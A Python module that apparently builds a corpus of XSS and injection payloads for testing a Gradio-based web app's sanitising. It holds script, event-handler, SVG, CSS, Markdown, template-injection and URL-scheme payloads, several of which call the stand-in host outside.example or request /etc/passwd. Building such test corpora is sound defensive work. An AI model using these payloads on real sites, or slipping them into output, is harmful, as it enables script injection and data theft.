"""Text that tries to be more than text, made by rule: what strangers could write into documents, names, questions and model output to have a browser run it.

Whatever works sets `hacked`, opens a dialog, leaves the page, or asks for an address at OUTSIDE or one that the page never asks for by itself.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

OUTSIDE = "outside.example"
URL = f"http://{OUTSIDE}/"
RUN = "hacked=1"
"""What most of them would run; it needs no quotes, so that it fits everywhere."""

IMAGE = f"<img src=/payload onerror={RUN}>"
"""The one that is put where something else was broken out of."""

SENTENCES = (
    RUN,
    "alert(1)",
    "top['hac'+'ked']=1",
    f"location='{URL}'",
    f"fetch('{URL}')",
    f"import('{URL}x.js')",
    f"navigator.sendBeacon('{URL}')",
    f"open('{URL}')",
    "history.replaceState(0,0,'/hacked')",
)


def entities(text: str, form: str) -> str:
    """Each character as a reference, such as "&#{};" or "&#x{:x}"."""
    return "".join(form.format(ord(character)) for character in text)


def scripts() -> Iterator[str]:
    for sentence in SENTENCES:
        yield f"<script>{sentence}</script>"
    for name, between in product(("script", "SCRIPT", "ScRiPt"), ("", " ", "/", "\t", "\n", "\f", " x=1 ")):
        yield f"<{name}{between}>{RUN}</{name}{between}>"
    for attribute in (
        "type=module",
        "async",
        "defer",
        "nonce=x",
        "type=text/javascript charset=utf-7",
        "for=window event=onload",
        "language=vbscript",
    ):
        yield f"<script {attribute}>{RUN}</script>"
    for address in (
        f"{URL}x.js",
        f"//{OUTSIDE}/x.js",
        f"data:text/javascript,{RUN}",
        "/payload.js",
        f"\\\\{OUTSIDE}\\x.js",
        "/gradio_api/file=/etc/passwd",
    ):
        yield f"<script src={address}></script>"
        yield f'<svg><script href="{address}"/></svg>'
    plain = f"<script>{RUN}</script>"
    for spelled in (
        "<scr<script>ipt>",
        "<<script>",
        "<script\0>",
        "<scr\0ipt>",
        "< script>",
        "<script<",
        "<\u200bscript>",
        "＜script＞",
        "À¼scriptÀ¾",
    ):
        yield f"{spelled}{RUN}</script>"
    yield f"<script>{RUN}"
    for form in ("&#{};", "&#x{:x};", "&#{:07}", "%{:02X}", "\\u{:04x}", "\\x{:02x}", "\\{:o}"):
        yield entities(plain, form)
    yield plain.replace("<", "&lt;").replace(">", "&gt;")
    yield plain.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield plain.replace("<", "+ADw-").replace(">", "+AD4-")
    yield quote(quote(plain, safe=""), safe="")
    yield base64.b64encode(plain.encode()).decode()
    yield f'<script type="importmap">{{"imports": {{"x": "{URL}"}}}}</script>'
    yield f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{URL}"]}}]}}</script>'


def handlers() -> Iterator[str]:
    alone = (
        ("img src=/payload", "error"),
        ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "load"),
        ("svg", "load"),
        ("body", "load"),
        ("body", "pageshow"),
        ("input autofocus", "focus"),
        ("select autofocus", "focus"),
        ("textarea autofocus", "focus"),
        ("button autofocus", "focus"),
        ("a href=# tabindex=0 autofocus", "focusin"),
        ("details open", "toggle"),
        ("video src=/payload", "error"),
        ("audio src=/payload", "error"),
        ("video controls", "loadstart"),
        ("iframe src=about:blank", "load"),
        ("object data=/payload", "error"),
        ("embed src=/payload", "load"),
        ("link rel=stylesheet href=/payload", "error"),
        ("style", "load"),
        ("marquee", "start"),
        ("marquee loop=1 width=0", "finish"),
        ("x style=animation-name:pulse;animation-duration:1s", "animationstart"),
        ("x style=transition:outline%201s;outline:1px tabindex=1", "transitionend"),
        ("div popover", "beforetoggle"),
        ("p contenteditable autofocus", "focus"),
        ("form", "formdata"),
        ("dialog open", "close"),
        ("p", "pointerenter"),
        ("p", "click"),
        ("x", "contentvisibilityautostatechange"),
        ("script src=/payload", "error"),
        ("input type=image src=/payload", "error"),
    )
    for opening, event in alone:
        yield f"<{opening} on{event}={RUN}>"
    for opening, event in alone[:8]:
        yield f'<{opening.upper()} ON{event.upper()}="{RUN}">'
        yield f"<{opening.replace(' ', '/')}/on{event}='{RUN}'/>"
        yield f"<{opening}\non{event}\n=\n{RUN}\n>"
        yield f'<{opening} on{event}="{entities(RUN, "&#{};")}">'
        yield f"<{opening} on{event}=`{RUN}`>"
        yield f"<{opening} x='>' on{event}={RUN}//"
    for sentence in SENTENCES[1:]:
        yield f'<img src=/payload onerror="{sentence}">'
    for between in ("\x0b", "\x0c", "\xa0", "\u2028", "\u3000", "\0", "+", "/*x*/"):
        yield f"<img src=/payload{between}onerror={RUN}>"


def drawings() -> Iterator[str]:
    inner = (
        f"<script>{RUN}</script>",
        f"<animate onbegin={RUN} attributeName=x dur=1s>",
        f"<set onbegin={RUN} attributeName=x to=y>",
        f"<a xlink:href=javascript:{RUN}><text y=9>x</text></a>",
        f"<a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a>",
        f"<use href=data:image/svg+xml,%3Csvg%20id=x%20onload={RUN}%3E#x>",
        f"<use href={URL}x.svg#x>",
        f"<image href={URL}x.png>",
        f"<feImage href={URL}x.png>",
        f"<foreignObject><iframe srcdoc='<script>top.{RUN}</script>'></iframe></foreignObject>",
        f"<foreignObject>{IMAGE}</foreignObject>",
        f"<style>@import '{URL}x.css';</style>",
        f"<style><img src='</style>{IMAGE}'>",
        f"<title><a id='</title>{IMAGE}'></title>",
        f"<desc>{IMAGE}</desc>",
        f"<discard onbegin={RUN}>",
        f"<handler>{RUN}</handler>",
        f"<![CDATA[{IMAGE}]]>",
    )
    for opened in inner:
        yield f"<svg>{opened}</svg>"
    for prefix in ("<svg xmlns='http://www.w3.org/2000/svg'>", "<SVG/>", "<svg><g>", "<s:svg>"):
        yield f"{prefix}<script>{RUN}</script>"
    mathematics = (
        f"<mtext><img src=/payload onerror={RUN}></mtext>",
        f"<maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction>",
        f"<mi href=javascript:{RUN}>x</mi>",
        f"<annotation-xml encoding=text/html>{IMAGE}</annotation-xml>",
        f"<mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/payload onerror={RUN}&gt;'>",
        f"<mtext></form><form><mglyph><style></math>{IMAGE}",
        f"<semantics><annotation encoding=application/xhtml+xml>{IMAGE}</annotation></semantics>",
        f"<malignmark><style>{IMAGE}</style>",
    )
    for opened in mathematics:
        yield f"<math>{opened}</math>"


def loading() -> Iterator[str]:
    yield from (
        f"<iframe src={URL}></iframe>",
        f"<iframe src=javascript:top.{RUN}></iframe>",
        f"<iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
        f"<iframe srcdoc='{entities(f'<script>top.{RUN}</script>', '&#{};')}'></iframe>",
        f"<iframe src=data:text/html,<script>top.{RUN}</script>></iframe>",
        f"<frameset onload={RUN}><frame src={URL}></frameset>",
        f"<fencedframe src={URL}></fencedframe>",
        f"<portal src={URL} onload={RUN}></portal>",
        f"<object data={URL}></object>",
        f"<object data=javascript:{RUN}></object>",
        f"<object><param name=src value={URL}></object>",
        f"<embed src={URL}>",
        f"<embed src=data:image/svg+xml,<svg/onload={RUN}>>",
        f"<applet code=x codebase={URL}></applet>",
        f'<meta http-equiv=refresh content="0;url={URL}">',
        f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
        f"<META HTTP-EQUIV='Set-Cookie' Content='{RUN}'>",
        '<meta http-equiv=Content-Security-Policy content="script-src *">',
        '<meta name=referrer content=unsafe-url>',
        f"<base href={URL}>",
        f"<base href=javascript:{RUN}//>",
        f"<base target=_blank><a href={URL}>x</a>",
        f"<form action={URL}><input autofocus><button>Send</button></form>",
        f"<form><button formaction=javascript:{RUN}>x</button></form>",
        f"<form id=f action={URL}></form><input form=f name=password>",
        f"<input type=image src={URL}x.png>",
        f"<isindex action=javascript:{RUN} type=image>",
        f"<video poster={URL}x.png></video>",
        f"<video><source src={URL}x.mp4 onerror={RUN}></video>",
        f"<audio autoplay src={URL}x.mp3></audio>",
        f"<video><track default src={URL}x.vtt></video>",
        f"<picture><source srcset={URL}x.png><img src=x></picture>",
        f"<img src={URL}x.png>",
        f"<img src=//{OUTSIDE}/x.png>",
        f"<img srcset='{URL}x.png 1x'>",
        f"<img lowsrc={URL}x.png dynsrc={URL}x.avi>",
        f"<image src={URL}x.png>",
        f"<img src=data:image/svg+xml,<svg/onload={RUN}>>",
        f"<body background={URL}x.png>",
        f"<table background={URL}x.png><td background={URL}y.png></table>",
        f"<bgsound src={URL}x.wav>",
        f"<a ping={URL} href=# autofocus>x</a>",
        f"<a href={URL} download>x</a>",
        f"<html manifest={URL}x>",
        f"<template shadowrootmode=open>{IMAGE}</template>",
    )  # fmt: skip
    for kind in (
        "stylesheet",
        "preload as=script",
        "prefetch",
        "dns-prefetch",
        "preconnect",
        "prerender",
        "modulepreload",
        "icon",
        "manifest",
        "import",
    ):
        yield f"<link rel={kind} href={URL}x>"


def styles() -> Iterator[str]:
    for rule in (
        f"@import '{URL}x.css';",
        f"@import url({URL}x.css);",
        f"@font-face {{ font-family: x; src: url({URL}x.woff) }} * {{ font-family: x }}",
        f"* {{ background: url({URL}x.png) }}",
        f"*::before {{ content: url('{URL}x.png') }}",
        f"* {{ cursor: url({URL}x.cur), auto }}",
        f"input[value^=a] {{ background: image-set('{URL}a' 1x) }}",
        f"* {{ width: expression({RUN}) }}",
        f"* {{ -moz-binding: url({URL}x.xml#x) }}",
        f"* {{ behavior: url({URL}x.htc) }}",
        f"@namespace url({URL}); * {{ list-style: url({URL}x.png) }}",
        f"@\\69mport '{URL}x.css';",
        "* { display: none !important }",
    ):
        yield f"<style>{rule}</style>"
    for rule in (
        f"background:url({URL}x.png)",
        f"background:\\75rl({URL}x.png)",
        f"width:expression({RUN})",
        f"background-image:url(javascript:{RUN})",
        "position:fixed;inset:0;z-index:9999;background:red",
        f"xss:e/**/xpression({RUN})",
        f"--x:url({URL}x.png);background:var(--x)",
    ):
        yield f'<p style="{rule}">x</p>'
    yield f"</style><style>@import '{URL}x.css'</style>"
    yield f"}} * {{ background: url({URL}x.png) }} {{"
    yield f"/*</style>{IMAGE}*/"
    yield f"<STYLE TYPE=text/javascript>{RUN}</STYLE>"


def markdown() -> Iterator[str]:
    addresses = (
        f"{URL}x.png", f"//{OUTSIDE}/x.png", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", "/gradio_api/file=/etc/passwd",
        f"/gradio_api/proxy={URL}", "/payload", "file:///etc/passwd", f"data:image/svg+xml,<svg onload={RUN}>",
    )  # fmt: skip
    forms = ("![x]({})", "[x]({})", "[x](<{}>)", '![x]({} "title")', "![x][y]\n\n[y]: {}", "<{}>", "[1]({})", "[![x]({})]({})")
    for address, form in product(addresses, forms):
        yield form.replace("{}", address)
    yield from (
        f"{URL}bare",
        f"www.{OUTSIDE}",
        f"[1]: {URL}\n[1]",
        f"[^1]: ![x]({URL})",
        f"# {IMAGE}",
        f"**{IMAGE}**",
        f"`{IMAGE}`",
        f"```html\n{IMAGE}\n```",
        f"| {IMAGE} | x |\n|---|---|\n| `{IMAGE}` | **{IMAGE}** |",
        f"- {IMAGE}\n1. {IMAGE}\n> {IMAGE}",
        f"[x](\x00javascript:{RUN})",
        f"![x](x)\n<div markdown=1>{IMAGE}</div>",
        f"[1][2][3]{IMAGE}[4]",
        f"[{IMAGE}]({URL})",
        f"$${IMAGE}$$",
        f"\\(\\href{{javascript:{RUN}}}{{x}}\\)",
        f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
        f":::note\n{IMAGE}\n:::",
        f"<!-- -->{IMAGE}<!-- -->",
        f"&lt;img src=/payload onerror={RUN}&gt;",
    )


def gradio() -> Iterator[str]:
    paths = (
        "/gradio_api/file=/etc/passwd", f"/gradio_api/file={URL}", f"/gradio_api/proxy={URL}", "/file=/etc/passwd", f"/proxy={URL}", "/gradio_api/upload",
        "/gradio_api/info", "/gradio_api/component_server", "/gradio_api/file/../../etc/passwd", "/login_check", "/logout", "/config?payload",
    )  # fmt: skip
    for path in paths:
        yield f"<img src='{path}'>"
        yield f"<a href='{path}' autofocus onfocus=click()>x</a>"
        yield f"url({path})"
    yield from (
        "@children",
        '{"__type__": "update", "value": "<img src=/payload onerror=hacked=1>"}',
        '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
        "${value}",
        "{{value}}",
        "{{{value}}}",
        "return `${hacked=1}`;",
        "<gradio-app src=http://outside.example/></gradio-app>",
        "<gradio-lite>hacked=1</gradio-lite>",
        "[object Object]",
    )


def schemes() -> Iterator[str]:
    spelled = (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\rscript:{RUN}", f" \x01javascript:{RUN}",
        f"\x00javascript:{RUN}", f"&#106;avascript:{RUN}", f"java&Tab;script&colon;{RUN}", f"javascript&#58;{RUN}", f"%6Aavascript:{RUN}",
        f"javascript://%0a{RUN}", f"javascript://{OUTSIDE}/%0d{RUN}", f"vbscript:{RUN}", f"livescript:{RUN}", f"data:text/html,<script>top.{RUN}</script>",
        "data:text/html;base64," + base64.b64encode(f"<script>top.{RUN}</script>".encode()).decode(), f"data:image/svg+xml,<svg onload={RUN}>",
        f"DATA:text/html;charset=utf-7,+ADw-script+AD4-{RUN}", "blob:null/payload", f"view-source:{URL}", "file:///etc/passwd", f"\\\\{OUTSIDE}\\x",
        f"/\\{OUTSIDE}/x", f"///{OUTSIDE}/x", f"http:{OUTSIDE}/x", f"ftp://{OUTSIDE}/", f"ws://{OUTSIDE}/", f"filesystem:{URL}", f"feed:javascript:{RUN}",
        f"jav\u200bascript:{RUN}", f"ｊavascript:{RUN}", f"mailto:x@{OUTSIDE}?body={IMAGE}",
    )  # fmt: skip
    for address in spelled:
        yield address
        yield f'<a href="{address}" autofocus onfocus=this.click()>x</a>'
        yield f'<iframe src="{address}"></iframe>'


def templates() -> Iterator[str]:
    yield from (
        "${hacked=1}",
        "${alert(1)}",
        "`${hacked=1}`",
        "`;hacked=1;//",
        "`+(hacked=1)+`",
        "${`${hacked=1}`}",
        "\\${hacked=1}",
        "\\`${hacked=1}\\`",
        "$\\{hacked=1}",
        "#{hacked=1}",
        "*{hacked=1}",
        "@{hacked=1}",
        "~{hacked=1}",
        "[[${hacked=1}]]",
        "{{hacked=1}}",
        "{{constructor.constructor('hacked=1')()}}",
        "{{this.constructor.constructor('hacked=1')()}}",
        "{{$on.constructor('hacked=1')()}}",
        "{{_c.constructor('hacked=1')()}}",
        "{{{hacked}}}",
        "{{#with 'x' as |x|}}{{lookup x 'constructor'}}{{/with}}",
        "{{#each this}}{{@key}}{{/each}}",
        "{{> partial}}",
        "{{!--hacked--}}",
        "{{'a'.__proto__}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "{%raw%}{{hacked}}{%endraw%}",
        "{@html '<img src=/payload onerror=hacked=1>'}",
        "{#if hacked}{/if}",
        "<%= hacked=1 %>",
        "<% hacked=1 %>",
        "<?php hacked=1 ?>",
        "<?= hacked=1 ?>",
        "%{hacked=1}",
        "%(hacked)s {hacked!r} {0.__class__}",
        "#set($x = 1)",
        "<p ng-app ng-init=\"$eval.constructor('hacked=1')()\">{{x}}</p>",
        "<p v-html=\"'<img src=/payload onerror=hacked=1>'\" @vue:mounted=hacked=1>",
        '<p x-data x-init="hacked=1">',
        f'<p hx-get="{URL}" hx-trigger=load hx-on::load=hacked=1>',
        f'<p data-hx-get="{URL}" data-trigger=load>',
        f'<turbo-frame src="{URL}"></turbo-frame>',
        '<p data-bind="html: hacked=1" data-action="click->x#y">',
        '<p is="x-y" slot=hacked part=hacked exportparts=hacked>',
    )


def mutations() -> Iterator[str]:
    """What a parser reads otherwise the second time: text that other elements hold as text."""
    for name in (
        "noscript",
        "textarea",
        "template",
        "xmp",
        "title",
        "style",
        "iframe",
        "noembed",
        "noframes",
        "plaintext",
        "listing",
        "select",
        "option",
    ):
        yield f"<{name}>{IMAGE}</{name}>"
        yield f'<{name}><p title="</{name}>{IMAGE}"></{name}>'
        yield f"</{name}>{IMAGE}"
    for name, inside in product(("svg", "math"), ("style", "xmp", "noscript", "textarea", "title")):
        yield f'<{name}></p><{inside}><a id="</{inside}>{IMAGE}"></{inside}></{name}>'
    for opened, closed in (
        ("<!--", "-->"),
        ("<!-->", ""),
        ("<!--->", ""),
        ("<!--", "--!>"),
        ("<!", ">"),
        ("<?", "?>"),
        ("</", ">"),
        ("<![CDATA[", "]]>"),
    ):
        yield f"{opened}x{closed}{IMAGE}"
        yield f'{opened}<p title="{closed}{IMAGE}">'
    yield f"<table><caption>{IMAGE}</table>"
    yield f"<p><a><table><a>{IMAGE}"
    yield f"<form><div></form><form>{IMAGE}"


def unicode() -> Iterator[str]:
    for (
        mark
    ) in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200b\u200c\u200d\u2060\ufeff\u2028\u2029\u0085\u00ad\u034f\u061c\ufe0f\ufffc\ufff9\U000e0001":
        yield f"{mark}{IMAGE}{mark}"
        yield f"<im{mark}g src=/payload onerror={RUN}>"
    yield "invoice\u202egpj.exe"
    yield "a" + "\u0301" * 400 + IMAGE
    yield "\U0001f468\u200d\U0001f469\u200d\U0001f467" + IMAGE
    for bracket, other in (("‹", "›"), ("＜", "＞"), ("﹤", "﹥"), ("ʼ", "ʼ"), ("\u02ba", "\u02ba"), ("\u2039", "\u203a")):
        yield f"{bracket}img src=/payload onerror={RUN}{other}"


def lines() -> Iterator[str]:
    """Line ends, NUL and the like, in places where they end something; and texts that are very long or deep."""
    for end in ("\r\n", "\r", "\n", "%0d%0a", "%E5%98%8A%E5%98%8D", "\x0b", "\x1c", "\\r\\n"):
        yield f"x{end}Content-Type: text/html{end}{end}{IMAGE}"
        yield f"x{end}Set-Cookie: hacked=1{end}Location: {URL}"
        yield f"data: x{end}{end}event: close{end}data: {IMAGE}"
    for mark in ("\x00", "\x01", "\x08", "\x1b[31m", "\x7f", "\x9b", "\x1a"):
        yield f"{mark}{IMAGE}"
        yield f"<img{mark}src=/payload{mark}onerror={RUN}>"
        yield f"<img src=/payload onerror=hac{mark}ked=1>"
    yield "A" * 3_000 + IMAGE
    yield "<b>" * 2_000 + IMAGE
    yield '"' * 5_000 + IMAGE
    yield "&" * 5_000 + IMAGE
    yield "[1]" * 400 + IMAGE
    yield "**" * 2_000 + IMAGE
    yield f"<img title='{'x' * 20_000}' src=/payload onerror={RUN}>"
    yield "../" * 200 + "etc/passwd"


def breakouts() -> Iterator[str]:
    for mark in ('"', "'", "`", "=", ">", "/>", "&quot;", "&#34;", "&#x22;", "&apos;", '\\"', "\\'", "%22", "\\u0022", '""', "\"'", "'\"`"):
        yield f"{mark}>{IMAGE}"
        yield f"{mark} onfocus={RUN} autofocus tabindex=0 x={mark}"
        yield f"{mark} onerror={RUN} src=/payload {mark}"
        yield f"x{mark} style={mark}background:url({URL}x.png){mark}"
    for mark in ("'", '"', "`", "\\'", '\\"', "\n", "*/", "-->", "]]>"):
        yield f"{mark};{RUN}//"
        yield f"{mark}-({RUN})-{mark}"
    for name in (
        "title",
        "textarea",
        "script",
        "style",
        "dialog",
        "article",
        "select",
        "svg",
        "head",
        "body",
        "html",
        "p",
        "td",
        "q",
        "option",
        "button",
    ):
        yield f"</{name}>{IMAGE}<{name}>"


def clobbering() -> Iterator[str]:
    """Names by which the browser or a script of ours looks something up, and attributes that our scripts act on."""
    names = (
        "hacked", "document-title", "quote", "marked", "library-files", "citewell", "transcript", "ask", "send", "body", "cookie", "location", "forms",
        "getElementById", "querySelector", "gradio_config", "Function", "__gradio_mode__", "currentScript", "attributes", "ownerDocument", "defaultView",
        "confirm-asked", "library-title", "earlier", "running",
    )  # fmt: skip
    for name in names:
        yield f"<form id={name} name={name}><input name={name} value=javascript:{RUN}></form>"
        yield f"<a id={name}></a><a id={name} name=x href={URL}>x</a>"
    for attribute in (
        "data-forgotten", "data-run=x", "data-open-library", "data-choose=x", "data-remove=x data-asked=x", "data-question=hacked", "data-case=keep data-key=x",
        "data-part=work", "data-part=list", "data-chosen=[] data-turn=999", "data-zoom=1", "data-close", "data-let-go", "data-cancel", "data-forget=x",
    ):  # fmt: skip
        yield f"<button {attribute} class=toast-message-text>Connection to the server was lost</button>"


def prototypes() -> Iterator[str]:
    for name in ("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "toJSON", "then", "length"):
        yield name
        yield f'{{"{name}": {{"hacked": 1}}}}'
        yield f"{name}[hacked]=1&{name}.hacked=1"


FAMILIES: dict[str, Callable[[], Iterator[str]]] = {
    made.__name__: made
    for made in (
        scripts, handlers, drawings, loading, styles, markdown, gradio, schemes, templates, mutations, unicode, lines, breakouts, clobbering, prototypes,
    )
}  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each once, in the same order every time."""
    return tuple(dict.fromkeys(text for made in FAMILIES.values() for text in made()))
